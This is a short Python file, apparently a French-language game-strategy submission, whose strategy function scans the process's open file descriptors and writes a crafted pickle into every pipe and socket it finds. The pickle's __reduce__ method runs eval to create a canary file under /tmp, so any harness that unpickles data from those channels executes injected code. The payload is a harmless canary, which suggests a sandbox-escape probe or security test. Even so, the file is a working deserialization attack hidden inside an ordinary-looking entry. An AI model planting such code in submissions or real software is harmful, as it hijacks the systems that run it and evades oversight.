"""Écrit un pickle qui crée un canari sur tous les tubes."""
import os, stat
def tubes(ecriture=True):
    for fd in range(256):
        try: m = os.fstat(fd).st_mode
        except OSError: continue
        if stat.S_ISFIFO(m) or stat.S_ISSOCK(m): yield fd
import pickle
def strategie(partie, partiesPrecedentes):
    class P:
        def __reduce__(self): return (eval, ("open('/tmp/trollkit_canari_c72_pickle_sur_les_tubes', 'w').write('x')",))
    b = pickle.dumps(P())
    for fd in list(tubes()):
        try: os.set_blocking(fd, False); os.write(fd, len(b).to_bytes(4, 'big') + b)
        except OSError: pass
    return 1
